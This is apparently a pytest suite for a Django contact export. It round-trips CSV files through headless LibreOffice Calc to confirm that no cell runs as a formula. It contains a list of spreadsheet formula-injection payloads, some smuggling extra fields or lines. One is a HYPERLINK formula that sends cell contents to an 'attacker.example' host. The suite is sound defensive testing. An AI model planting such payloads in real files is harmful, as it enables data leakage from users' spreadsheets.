"""The export opened by a real spreadsheet: LibreOffice Calc, splitting on comma, semicolon or tab, runs no cell.

Contacts with hostile names, addresses, labels, companies, phone labels and consent notes are exported
through the web view in both column sets. Each file is converted to xlsx by `soffice --headless` with the
CSV filter set to the worst case (formulas evaluated, quoted fields parsed like any other, spaces trimmed
or not), and the workbook is read back with openpyxl: no cell may hold a formula, nor the number the
payloads compute. A control file of raw formulas shows the same settings do run formulas, so the round
trip cannot pass because evaluation was off.

Without soffice the tests are skipped, unless REQUIRE_BROWSER=1 (as in CI), which makes that a failure, as
for the browser tests.
"""

import os
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from customers.export import FULL, SHOPIFY, cell
from customers.models import ConsentRecord, ConsentSource, ConsentState
from tests.factories import CompanyFactory, ContactFactory, LabelFactory, MembershipFactory, PhoneNumberFactory

pytestmark = pytest.mark.django_db
SOFFICE = shutil.which("soffice")
SEPARATORS = {"comma": 44, "semicolon": 59, "tab": 9}
# What every payload computes when a spreadsheet runs it: a number no contact's own data holds.
EVALUATED = 7654321
RUN = "SUM(7654000+321)"
PAYLOADS = [
    f"={RUN}",
    "+7654000+321",
    "-1+7654322",
    f"@{RUN}",
    f"＝{RUN}",
    f" ={RUN}",
    f"\t={RUN}",
    f"\n={RUN}",
    # A second field to a reader that splits on ";", "," or tab.
    f"x;={RUN};y",
    f"x; ={RUN}",
    "x;  +7654000+321",
    "x;-1+7654322",
    f"x;@{RUN}",
    f"x;＝{RUN}",
    f"x,={RUN}",
    "x, +7654000+321",
    f"x\t={RUN}",
    f"x\t ={RUN}",
    f"a;b;c;={RUN}",
    # A second line, whichever line break.
    f"Note\n={RUN}",
    f"Note\r\n={RUN}",
    f"Note\r={RUN}",
    f"Note\n ={RUN}",
    "One\nTwo\n-1+7654322",
    # Quote marks, which the writer doubles, around or before the formula.
    f'x;"={RUN}"',
    f'x;"={RUN}',
    f'say "hi";={RUN}',
    f'x"\n={RUN}',
    f'"\n={RUN}',
    f'x;" ={RUN}"',
    '=HYPERLINK("https://attacker.example/?leak="&A1;"Click")',
]
# Filter options of LibreOffice's CSV import, by token (1-based; LibreOffice's own list counts from 0):
# 1 field separator; 2 text delimiter (34, the double quote); 3 character set (76, UTF-8); 4 first line
# to read; 5 column formats (none: each cell detected); 6 language (1033, English (USA)); 7 quoted field
# as text (false: quoted cells are parsed like any other, so quoting alone defuses nothing); 8 detect
# special numbers; 9 and 10 are for export only; 11 trim spaces; 12 the sheet, for export only;
# 13 evaluate formulas (true). Without token 13 LibreOffice evaluates too; it is given to be sure.
FILTER = "{separator},34,76,1,,1033,false,true,false,false,{trim},0,true"


@pytest.fixture(scope="module")
def soffice() -> str:
    if SOFFICE:
        return SOFFICE
    if os.environ.get("REQUIRE_BROWSER") == "1":
        pytest.fail("REQUIRE_BROWSER=1 but soffice was not found (apt-get install libreoffice-calc-nogui).")
    pytest.skip("No soffice found; install libreoffice-calc-nogui to run the LibreOffice round trip")


@pytest.fixture(scope="module")
def profile(tmp_path_factory) -> str:
    """A LibreOffice user profile of these tests' own, so no running LibreOffice or other profile interferes."""
    return tmp_path_factory.mktemp("libreoffice-profile").as_uri()


def hostile_contacts() -> None:
    for index, payload in enumerate(PAYLOADS):
        contact = ContactFactory(
            first_name=payload,
            last_name=payload,
            email=f"p{index}@x.example",
            address_line1=payload,
            city=payload[:100],
        )
        contact.labels.add(LabelFactory(name=f"{payload[:40]} {index}"))
        MembershipFactory(contact=contact, company=CompanyFactory(name=f"{payload} {index}"))
        PhoneNumberFactory(contact=contact, label=payload[:30])
        ConsentRecord.objects.create(
            contact=contact,
            state=ConsentState.SUBSCRIBED,
            source=ConsentSource.STAFF,
            given_at=contact.created_at,
            collected_how=payload,
        )


def exported(client, columns: str) -> str:
    response = client.post(reverse("customers:export"), {"download": "1", "columns": columns, "scope": "all"})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


def convert(soffice: str, profile: str, files: list[Path], *, separator: int, trim: bool) -> list[Path]:
    """Open each CSV file in LibreOffice Calc with the given separator and save it as xlsx."""
    outdir = files[0].parent / "xlsx"
    options = FILTER.format(separator=separator, trim=str(trim).lower())
    done = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={profile}",
            "--headless",
            f"--infilter=CSV:{options}",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(outdir),
            *map(str, files),
        ],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    converted = [outdir / f"{file.stem}.xlsx" for file in files]
    assert done.returncode == 0, done.stderr
    assert all(path.exists() for path in converted), (done.stdout, done.stderr)
    return converted


def cells(path: Path) -> list[tuple[openpyxl.cell.Cell, openpyxl.cell.Cell]]:
    """Return each non-empty cell of the sheet as stored (formula or value) and as last calculated."""
    stored, calculated = (openpyxl.load_workbook(path, data_only=flag).active for flag in (False, True))
    return [
        (as_stored, as_calculated)
        for stored_row, calculated_row in zip(stored.iter_rows(), calculated.iter_rows(), strict=True)
        for as_stored, as_calculated in zip(stored_row, calculated_row, strict=True)
        if as_stored.value is not None
    ]


def ran(as_stored, as_calculated) -> bool:
    """Whether LibreOffice ran the cell: stored as a formula, or calculated to an error or to what payloads compute."""
    return as_stored.data_type == "f" or as_calculated.data_type == "e" or as_calculated.value == EVALUATED


@pytest.mark.parametrize("trim", [False, True], ids=["spaces kept", "spaces trimmed"])
@pytest.mark.parametrize("separator", SEPARATORS.values(), ids=SEPARATORS.keys())
def test_no_cell_runs_whichever_separator_libreoffice_splits_on(
    soffice, profile, tmp_path, staff_client, record_property, separator, trim
):
    hostile_contacts()
    files = []
    for columns in (FULL, SHOPIFY):
        files.append(tmp_path / f"{columns}.csv")
        files[-1].write_text(exported(staff_client, columns), encoding="utf-8", newline="")
    # A formula as a careless export with this separator would write it: bare, then quoted.
    control = tmp_path / "control.csv"
    end = f"{chr(separator)}x\r\n"
    control.write_text(f'={RUN}{end}"={RUN}"{end}', encoding="utf-8", newline="")
    *sheets, control_sheet = convert(soffice, profile, [*files, control], separator=separator, trim=trim)

    assert sum(ran(*pair) for pair in cells(control_sheet)) == 2, "LibreOffice did not evaluate formulas"
    for columns, sheet in zip((FULL, SHOPIFY), sheets, strict=True):
        checked = cells(sheet)
        assert [(stored.coordinate, stored.value) for stored, calculated in checked if ran(stored, calculated)] == []
        # Something was read: at least a header and a cell per contact.
        assert len(checked) > len(PAYLOADS)
        record_property(f"{columns} cells checked", len(checked))


def test_a_comma_reader_shows_each_value_as_typed_behind_its_apostrophes(soffice, profile, tmp_path, staff_client):
    """The defusing loses nothing: LibreOffice's text is the exported cell, its line breaks made LF."""
    hostile_contacts()
    full = tmp_path / "full.csv"
    full.write_text(exported(staff_client, FULL), encoding="utf-8", newline="")
    [sheet] = convert(soffice, profile, [full], separator=SEPARATORS["comma"], trim=False)
    rows = list(openpyxl.load_workbook(sheet).active.iter_rows(values_only=True))
    first_names = [row[rows[0].index("First name")] for row in rows[1:]]
    expected = [cell(payload).replace("\r\n", "\n").replace("\r", "\n") for payload in PAYLOADS]
    assert first_names == expected
